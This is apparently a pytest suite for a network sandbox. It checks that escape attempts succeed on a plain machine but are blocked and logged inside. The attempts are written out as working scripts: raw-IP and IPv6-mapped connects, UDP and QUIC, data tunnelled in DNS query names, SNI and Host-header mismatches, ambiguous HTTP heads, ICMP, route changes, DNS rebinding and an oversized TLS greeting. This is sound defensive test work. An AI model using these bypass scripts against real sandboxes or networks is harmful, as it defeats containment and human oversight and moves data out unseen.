"""Ways out of the network: each succeeds on the plain machine, fails inside, and leaves an event."""

from __future__ import annotations

import subprocess
from typing import TYPE_CHECKING

import pytest

if TYPE_CHECKING:
    from tests.conftest import Arena
    from tests.network.conftest import World

WEB = """
  network {
    allow connect "allowed.test" port 80, 443 as web
    allow connect "private.test" port 80
  }
"""
BARE = "python3 - <<'END'\nimport socket, ssl, struct\n"


def stream(address: str, data: str, family: str = "AF_INET") -> str:
    """Sends bytes by TCP and waits for an answer."""
    return (
        f"{BARE}s = socket.socket(socket.{family}, socket.SOCK_STREAM)\ns.settimeout(5)\n"
        f"s.connect({address})\ns.sendall({data})\ns.recv(100)\nEND"
    )


def tls(address: str, name: str | None, host: str) -> str:
    """An HTTPS request with this server name and host to an address or name."""
    return (
        f"{BARE}c = ssl._create_unverified_context()\n"
        f"s = socket.create_connection(({address!r}, 443), 5)\n"
        f"s = c.wrap_socket(s, server_hostname={name!r})\n"
        f"s.sendall(b'GET /stolen HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n')\ns.recv(100)\nEND"
    )


REQUEST = "b'GET /stolen HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n'"


@pytest.mark.parametrize(
    ("family", "address"),
    [
        ("AF_INET", "('93.184.216.34', 80)"),
        ("AF_INET6", "('2606:2800:220:1::34', 80)"),
        ("AF_INET6", "('::ffff:93.184.216.34', 80)"),
    ],
)
def test_an_address_in_place_of_a_name(net: Arena, world: World, family: str, address: str) -> None:
    host = address.split("'")[1].removeprefix("::ffff:")
    seen = f"connect {'[[]' + host + ']' if ':' in host else host}:80"
    script = stream(address, REQUEST, family)
    net.attack(script, effect=world.anything("http", path="/stolen"), seen=seen, policy=net.policy(WEB))


@pytest.mark.parametrize("port", [443, 9999])
def test_datagrams(net: Arena, world: World, port: int) -> None:
    """QUIC among them."""
    send = f"s.sendto(b'data', ('93.184.216.34', {port}))"
    script = f"{BARE}s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n{send}\nEND"
    seen = f"connect 93.184.216.34:{port}"
    net.attack(script, effect=world.anything("udp", port=port), seen=seen, policy=net.policy(WEB))


QUERY = (
    "q = struct.pack('>HHHHHH', 7, 256, 1, 0, 0, 0)"
    " + b'\\x06stolen\\x06denied\\x04test\\0' + struct.pack('>HH', 16, 1)\n"
)


@pytest.mark.parametrize("server", ["93.184.216.53", "198.18.0.1"])
def test_data_in_names_by_datagrams(net: Arena, world: World, server: str) -> None:
    """To the upstream resolver, and to the sandbox's own (which plainly is the machine's)."""
    plain = f"[ $(hostname) = sandbox ] && to={server} || to=93.184.216.53\n"
    script = (
        f"{plain}TO=$to {BARE}import os\n{QUERY}s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "s.settimeout(5)\ns.sendto(q, (os.environ['TO'], 53))\ns.recv(500)\nEND"
    )
    seen = "connect 93.184.216.53:53" if server != "198.18.0.1" else "resolve stolen.denied.test"
    effect = world.anything("dns", name="stolen.denied.test")
    net.attack(script, effect=effect, seen=seen, policy=net.policy(WEB))


@pytest.mark.parametrize("server", ["93.184.216.53", "198.18.0.1"])
def test_data_in_names_by_streams(net: Arena, world: World, server: str) -> None:
    plain = f"[ $(hostname) = sandbox ] && to={server} || to=93.184.216.53\n"
    script = (
        f"{plain}TO=$to {BARE}import os\n{QUERY}s = socket.create_connection((os.environ['TO'], 53), 5)\n"
        "s.sendall(struct.pack('>H', len(q)) + q)\ns.recv(500)\nEND"
    )
    seen = "connect 93.184.216.53:53" if server != "198.18.0.1" else "resolve stolen.denied.test"
    effect = world.anything("dns", name="stolen.denied.test")
    net.attack(script, effect=effect, seen=seen, policy=net.policy(WEB))


def test_records_that_carry_more_than_addresses(net: Arena, world: World) -> None:
    """Of an allowed name, too: text, and the hints at QUIC and encrypted greetings (RFC 9460) are empty."""
    script = f"""{BARE}
to = "198.18.0.1" if socket.gethostname() == "sandbox" else "93.184.216.53"
for kind in (16, 65, 64, 15, 255):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    q = struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + b"\\x07allowed\\x04test\\0" + struct.pack(">HH", kind, 1)
    s.sendto(q, (to, 53))
    print(struct.unpack(">HHHHHH", s.recv(500)[:12])[3], end=" ")
END"""
    assert net.plain(script).out
    assert {line["kind"] for line in world.heard("dns", name="allowed.test")} == {16, 65, 64, 15, 255}
    world.forget()
    done = net.inside(script, policy=net.policy(WEB))
    assert done.out.split() == ["0"] * 5, done
    assert not world.heard("dns")


def test_another_name_in_the_greeting(net: Arena, world: World) -> None:
    script = tls("allowed.test", "other.test", "other.test")
    effect = world.anything("https", host="other.test")
    net.attack(script, effect=effect, seen="connect allowed.test:443", policy=net.policy(WEB))


def test_no_name_in_the_greeting(net: Arena, world: World) -> None:
    script = tls("allowed.test", None, "other.test")
    effect = world.anything("https", host="other.test")
    net.attack(script, effect=effect, seen="connect allowed.test:443", policy=net.policy(WEB))


def test_another_host_in_a_request(net: Arena, world: World) -> None:
    script = "curl -sS --max-time 5 -H 'Host: other.test' http://allowed.test/stolen"
    effect = world.anything("http", host="other.test")
    net.attack(script, effect=effect, seen="connect allowed.test:80", policy=net.policy(WEB))


@pytest.mark.parametrize(
    "head",
    [
        "GET http://other.test/stolen HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n",
        "GET /stolen HTTP/1.1\\r\\nHost: allowed.test\\r\\nHost: other.test\\r\\n\\r\\n",
        "GET /stolen HTTP/1.1\\nX: y\\nHost: other.test\\n\\n",
        "CONNECT stolen.test:80 HTTP/1.1\\r\\nHost: stolen.test:80\\r\\n\\r\\n",
        "CONNECT stolen.test:80 HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n",
        "\\r\\nGET /stolen HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n",
    ],
)
def test_a_head_that_is_read_in_two_ways(net: Arena, world: World, head: str) -> None:
    script = stream("('allowed.test', 80)", f"b'{head}'")

    def effect(_: object) -> bool:
        heard = any("stolen" in line["path"] or line["method"] == "" for line in world.heard("http"))
        world.forget()
        return heard

    net.attack(script, effect=effect, seen="connect allowed.test:80", policy=net.policy(WEB))


def test_a_port_that_no_rule_opens(net: Arena, world: World) -> None:
    script = "curl -sS --max-time 5 http://allowed.test:8080/stolen"
    effect = world.anything("http", path="/stolen")
    net.attack(script, effect=effect, seen="connect allowed.test:8080", policy=net.policy(WEB))


def test_an_echo_request(net: Arena, world: World) -> None:
    """By a ping socket, which a new network namespace gives to nobody."""
    script = (
        f"{BARE}s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)\ns.settimeout(5)\n"
        "s.sendto(bytes([8, 0, 0, 0, 0, 0, 0, 0]), ('93.184.216.34', 0))\ns.recv(100)\nEND"
    )
    before = [world.echoes()]

    def heard(_: object) -> bool:
        before.append(world.echoes())
        return before[-1] > before[-2]

    inside = net.attack(script, effect=heard, unseen="echo requests", policy=net.policy(WEB))
    assert "PermissionError" in inside.err


def test_a_change_of_the_network(net: Arena, world: World) -> None:
    """By routing messages, which everybody may open a socket for."""
    if net.account.uid != 0:
        pytest.skip("the kernel refuses it plainly, so there is nothing to show")
    script = "ip address add 198.51.100.77/32 dev lo"
    shown = ("ip", "-n", world.machine, "address", "show", "dev", "lo")

    def changed(_: object) -> bool:
        return "198.51.100.77" in subprocess.run(shown, capture_output=True, text=True, check=True).stdout

    def restore() -> None:
        command = ["ip", "-n", world.machine, "address", "delete", "198.51.100.77/32", "dev", "lo"]
        subprocess.run(command, check=False, stderr=subprocess.DEVNULL)

    inside = net.attack(script, effect=changed, restore=restore, unseen="echo requests")
    assert "Operation not permitted" in inside.err
    assert inside.code != 0


def test_a_name_that_changes_what_it_stands_for(net: Arena, world: World) -> None:
    """Rebinding: public at the first look, the machine's own loopback at the second."""
    plain, inside = (f"{how}-{net.account.name}.flip.test" for how in ("plain", "inside"))
    rules = net.policy(f'network {{ allow connect "{inside}" port 80 as flip }}')
    curl = "for path in fine stolen; do curl -sS --max-time 5 http://{}/$path; done"
    assert net.plain(curl.format(plain)).code == 0
    assert world.heard("http", path="/fine")
    assert world.heard("machine", path="/stolen")
    world.forget()
    done = net.inside(curl.format(inside), policy=rules)
    assert world.heard("http", path="/fine")
    assert len(world.heard("dns", name=inside, kind=1)) > 1, "it was not looked up again"
    assert not world.heard("machine")
    assert f"connect {inside}:80" in done.denials


HELLO = r"""
import socket, struct
def vector(size, data): return len(data).to_bytes(size, 'big') + data
def extension(kind, data): return struct.pack('>H', kind) + vector(2, data)
name = b'other.test'
extensions = (
    extension(0x7777, bytes(20000))
    + extension(0, vector(2, bytes(1) + vector(2, name)))
    + extension(10, vector(2, bytes.fromhex('001d0017')))
    + extension(13, vector(2, bytes.fromhex('04030804080504010501')))
)
ciphers = bytes.fromhex('c02bc02fc02cc030') + bytes.fromhex('fafa') * 25000
body = b'\3\3' + bytes(32) + b'\0' + vector(2, ciphers) + b'\1\0' + vector(2, extensions)
message = b'\1' + vector(3, body)
records = [message[at:at + 16384] for at in range(0, len(message), 16384)]
s = socket.create_connection(('allowed.test', 443), 5)
s.sendall(b''.join(b'\x16\3\1' + vector(2, record) for record in records))
s.recv(1)
"""


def test_a_greeting_that_is_too_long_to_look_at(net: Arena, world: World) -> None:
    """Over 64 KiB; OpenSSL takes twice that."""
    script = f"python3 - <<'END'{HELLO}END"
    effect = world.anything("greeting", name="other.test")
    net.attack(script, effect=effect, seen="connect allowed.test:443", policy=net.policy(WEB))
